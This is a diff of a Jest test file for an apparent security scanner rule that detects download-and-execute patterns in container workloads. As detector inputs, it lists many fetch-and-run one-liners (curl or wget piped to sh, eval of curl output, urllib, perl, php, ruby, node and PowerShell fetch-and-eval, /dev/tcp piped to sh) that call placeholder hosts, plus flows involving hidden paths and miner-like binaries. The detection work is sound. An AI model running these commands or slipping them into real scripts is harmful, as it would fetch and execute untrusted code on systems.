@@ -1,126 +1,126 @@
 import { describe, expect, it } from '@jest/globals';
 
-import type { Workload } from '../../workload/types.js';
+import type { Flow } from '../../workload/model.js';
+import { execution, flow, network, withExecution } from '../../../test/support/execution.js';
+import { TRUSTED_INSTALLERS } from '../download.js';
 import { downloadExec } from './download-exec.js';
-import { C0, argv, cronJob, sh } from '../../../test/support/workloads.js';
+import { downloadExecUnverified } from './download-exec-unverified.js';
+import { networkClient } from './network-client.js';
 
-function paths(workload: Workload): string[] {
-  return downloadExec.check(workload, undefined).map((evidence) => evidence.path);
-}
+const run = (url: string, steps: string[] = []): Flow => flow(network(url), 'exec', { steps, by: 'sh' });
+const params = { trustedHosts: [...TRUSTED_INSTALLERS] };
+const hostile = (f: Flow) => downloadExec.check(withExecution(execution({ flows: [f] })), undefined);
+const unverified = (f: Flow) =>
+  downloadExecUnverified.check(withExecution(execution({ flows: [f] })), params);
 
-describe('download-exec', () => {
-  it.each<[string, Workload, string[]]>([
-    ['curl | sh', sh('curl -fsSL http://x.y/i.sh | sh'), [`${C0}.command[2]`]],
-    ['curl | sudo bash -s', sh('curl -s http://x.y/i | sudo bash -s -- --flag'), [`${C0}.command[2]`]],
-    ['wget -O- | sh', sh('wget -O- http://x.y/i | sh'), [`${C0}.command[2]`]],
-    ['wget -qO- | bash', sh('wget -qO- http://x.y/i | /bin/bash'), [`${C0}.command[2]`]],
-    ['busybox wget | sh', sh('busybox wget -q -O - http://x.y/i | sh'), [`${C0}.command[2]`]],
-    ['curl | python3 -', sh('curl -s http://x.y/p.py | python3 -'), [`${C0}.command[2]`]],
-    ['curl | perl', sh('curl -s http://x.y/p.pl | perl'), [`${C0}.command[2]`]],
-    ['curl | gunzip | sh', sh('curl -s http://x.y/p.gz | gunzip | sh'), [`${C0}.command[2]`]],
+describe('download-exec (hostile sources) and download-exec-unverified (HTTPS from a domain)', () => {
+  it.each<[string, Flow, string]>([
+    ['plain http', run('http://k8s-metrics.example/x.sh'), 'code over plain http'],
+    ['an IP literal over https', run('https://203.0.113.41/x.sh'), 'code from the address 203.0.113.41'],
+    ['a decimal IP', run('http://2852039166/x'), 'code from the metadata service'],
+    ['a hex IP', run('http://0xcb00712a/x'), 'code from the address 0xcb00712a'],
+    ['a private IP literal', run('http://10.0.0.5/x'), 'code from the address 10.0.0.5'],
     [
-      'get.helm.sh installer (decided: fires)',
-      sh('curl -fsSL https://get.helm.sh/get-helm-3 | bash'),
-      [`${C0}.command[2]`],
-    ],
-    ['sh -c "$(curl …)"', sh('sh -c "$(curl -fsSL http://x.y/i)"'), [`${C0}.command[2]`]],
-    ['bash -c "$(wget -qO- …)"', sh('bash -c "$(wget -qO- http://x.y/i)"'), [`${C0}.command[2]`]],
-    ['eval "$(curl …)"', sh('eval "$(curl -s http://x.y/i)"'), [`${C0}.command[2]`]],
-    ['bash <(curl …)', sh('bash <(curl -s http://x.y/i)'), [`${C0}.command[2]`]],
-    ['. <(curl …)', sh('. <(curl -s http://x.y/i)'), [`${C0}.command[2]`]],
-    ['argv sh -c $(curl)', argv('/bin/sh', '-c', '$(curl -s http://x.y/i)'), [`${C0}.command[2]`]],
-    [
-      'curl -o, chmod +x, run',
-      sh('curl -sL -o /tmp/x http://x.y/x && chmod +x /tmp/x && /tmp/x'),
-      [`${C0}.command[2]`],
+      'a wildcard-DNS name',
+      run('https://203.0.113.9.nip.io/x'),
+      'code from a wildcard-DNS name for 203.0.113.9',
     ],
     [
-      'curl -sLo clustered',
-      sh('curl -sLo /tmp/x http://x.y/x; chmod 755 /tmp/x; /tmp/x'),
-      [`${C0}.command[2]`],
+      'a non-default port',
+      run('https://cdn.update-check.example:8443/i'),
+      'code from cdn.update-check.example on port 8443',
     ],
-    ['curl --output=', sh('curl --output=/tmp/x http://x.y/x; sh /tmp/x'), [`${C0}.command[2]`]],
+    ['ftp', run('ftp://files.example.org/x'), 'code over plain ftp'],
     [
-      'curl -O then ./name',
-      sh('cd /tmp && curl -fsSLO http://x.y/dl/kworker && chmod +x kworker && ./kworker'),
-      [`${C0}.command[2]`],
+      'a trusted host, dropped into a hidden path',
+      run('https://get.helm.sh/x', ['moves /tmp/x as /usr/local/bin/.x', 'runs /usr/local/bin/.x']),
+      'hidden path /usr/local/bin/.x',
+    ],
+    ['a domain, run from /tmp', run('https://example.org/a', ['runs /tmp/a']), 'runs from /tmp/a'],
+    [
+      'downloaded into /tmp and run by a relative name',
+      run('https://cdn.example.org/bot', ['downloads https://cdn.example.org/bot to /tmp/bot', 'runs ./bot']),
+      'runs from /tmp/bot',
+    ],
+    ['from /dev/shm', run('https://example.org/a', ['runs /dev/shm/kswapd0']), 'runs from /dev/shm/kswapd0'],
+    [
+      'unpacked into a hidden directory',
+      run('https://example.org/k.tgz', [
+        'unpacks k.tgz into /var/tmp/.cache',
+        'runs /var/tmp/.cache/kswapd0',
+      ]),
+      'hidden path /var/tmp/.cache',
+    ],
+  ])('denies %s', (_name, f, why) => {
+    expect(hostile(f).map((e) => e.reason)).toEqual([why]);
+    expect(unverified(f)).toEqual([]);
+  });
+
+  it.each<[string, Flow]>([
+    ['an HTTPS domain', run('https://k8s-metrics.example/i.sh')],
+    ['an in-cluster service over http', run('http://artifacts.ci.svc.cluster.local/setup.sh')],
+    ['a host not known before run time', run('https://$HOST/i.sh')],
+    [
+      'a GitHub path outside the listed projects',
+      run('https://raw.githubusercontent.com/someone/tools/main/i.sh'),
+    ],
+    ['a lookalike of a trusted host', run('https://get.helm.sh.evil.example/i.sh')],
+  ])('warns on %s', (_name, f) => {
+    expect(hostile(f)).toEqual([]);
+    expect(unverified(f)).toHaveLength(1);
+  });
+
+  it.each<[string, Flow]>([
+    [
+      'get.helm.sh',
+      run('https://get.helm.sh/helm-v3.15.0-linux-amd64.tar.gz', [
+        'unpacks it',
+        'installs as /usr/local/bin/helm',
+        'runs helm',
+      ]),
+    ],
+    ['sh.rustup.rs', run('https://sh.rustup.rs')],
+    [
+      'a listed project path on raw.githubusercontent.com',
+      run('https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3'),
     ],
     [
-      'curl > file then bash file',
-      sh('curl -s http://x.y/i > /tmp/i.sh; bash /tmp/i.sh'),
-      [`${C0}.command[2]`],
+      'dl.k8s.io installed from /tmp into PATH',
+      run('https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl', [
+        'saves as /tmp/kubectl',
+        'installs as /usr/local/bin/kubectl',
+        'runs kubectl',
+      ]),
     ],
-    [
-      'wget default name then run',
-      sh('wget http://x.y/payload; chmod +x payload; ./payload'),
-      [`${C0}.command[2]`],
-    ],
-    [
-      'wget -O file then python',
-      sh('wget -O /tmp/p.py http://x.y/p; python3 /tmp/p.py'),
-      [`${C0}.command[2]`],
-    ],
-    ['wget -P dir', sh('wget -P /tmp http://x.y/m; chmod +x /tmp/m; /tmp/m'), [`${C0}.command[2]`]],
-    [
-      'python urllib exec',
-      argv('python3', '-c', 'import urllib.request as u;exec(u.urlopen("http://x.y/p").read())'),
-      [`${C0}.command[2]`],
-    ],
-    ['perl LWP eval', sh(`perl -MLWP::Simple -e 'eval(get("http://x.y/p"))'`), [`${C0}.command[2]`]],
-    [
-      'php file_get_contents eval',
-      argv('php', '-r', 'eval(file_get_contents("http://x.y/p"));'),
-      [`${C0}.command[2]`],
-    ],
-    [
-      'ruby open-uri eval',
-      argv('ruby', '-ropen-uri', '-e', 'eval(URI.open("http://x.y/p").read)'),
-      [`${C0}.command[3]`],
-    ],
-    [
-      'node https.get eval',
-      argv(
-        'node',
-        '-e',
-        'require("https").get("https://x.y/p",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>eval(d))})',
-      ),
-      [`${C0}.command[2]`],
-    ],
-    [
-      'pwsh iex iwr',
-      argv('pwsh', '-c', 'iex (iwr http://x.y/p -UseBasicParsing).Content'),
-      [`${C0}.command[2]`],
-    ],
-    ['/dev/tcp read piped to sh', sh('cat < /dev/tcp/h/80 | sh'), [`${C0}.command[2]`]],
-    [
-      'init container',
-      cronJob({
-        initContainers: [{ name: 'i', image: 'alpine', args: ['-c', 'curl http://x.y/i | sh'] }],
-        containers: [{ name: 'c', image: 'alpine' }],
-      }),
-      ['spec.jobTemplate.spec.template.spec.initContainers[0].args[1]'],
-    ],
-    // Benign look-alikes.
-    ['health check', argv('curl', '-fsS', 'http://svc/healthz'), []],
-    ['apk add curl', sh('apk add --no-cache curl && curl -s http://svc/ping'), []],
-    [
-      'curl | python -c json',
-      sh(`curl -s http://svc | python3 -c 'import json,sys;print(json.load(sys.stdin)["a"])'`),
-      [],
-    ],
-    ['curl | tar xz', sh('curl -sL http://x.y/a.tgz | tar xz -C /opt'), []],
-    ['curl | jq', sh('curl -s http://svc/api | jq .items'), []],
-    ['download never run', sh('curl -sLo /tmp/report.csv http://svc/r && gzip /tmp/report.csv'), []],
-    ['sh -c script file other than the download', sh('curl -o /tmp/a http://x.y/a; sh /tmp/b'), []],
-    ['run before download', sh('/tmp/x; curl -o /tmp/x http://x.y/x'), []],
-    ['curl | sh -c "cat > file"', sh(`curl -s http://x.y/a | sh -c 'cat > /tmp/a'`), []],
-    ['eval "$(ssh-agent -s)"', sh('eval "$(ssh-agent -s)"'), []],
-    [
-      'python -c requests without exec',
-      argv('python3', '-c', 'import requests; print(requests.get("http://svc").status_code)'),
-      [],
-    ],
-  ])('%s', (_name, workload, expected) => {
-    expect(paths(workload)).toEqual(expected);
+  ])('lets a vendor installer through as context only: %s', (_name, f) => {
+    expect(hostile(f)).toEqual([]);
+    expect(unverified(f)).toEqual([]);
+    const context = networkClient.check(withExecution(execution({ flows: [f] })), undefined);
+    expect(context.map((e) => e.reason)).toEqual(['runs an installer fetched over HTTPS']);
+  });
+
+  it('takes its trusted hosts from the policy', () => {
+    const f = run('https://mirror.corp.example/install.sh');
+    expect(unverified(f)).toHaveLength(1);
+    const trusted = downloadExecUnverified.check(withExecution(execution({ flows: [f] })), {
+      trustedHosts: ['mirror.corp.example'],
+    });
+    expect(trusted).toEqual([]);
+  });
+
+  it.each<[string, Flow]>([
+    ['a download that is only printed', flow(network('http://203.0.113.41/data'), 'log')],
+    ['a decoded payload (encoded-payload’s)', flow({ kind: 'decoded', encoding: 'base64' }, 'exec')],
+    ['a raw socket read loop (reverse-shell’s)', flow(network('tcp://203.0.113.41:4444'), 'exec')],
+  ])('does not fire on %s', (_name, f) => {
+    expect(hostile(f)).toEqual([]);
+    expect(unverified(f)).toEqual([]);
+  });
+
+  it('names the flow in the finding', () => {
+    const [found] = hostile(run('http://198.51.100.23/k.tgz', ['unpacks k.tgz', 'runs ./kswapd0']));
+    expect(found?.detail).toBe(
+      'downloads http://198.51.100.23/k.tgz, unpacks k.tgz, runs ./kswapd0, runs it (sh)',
+    );
   });
 });
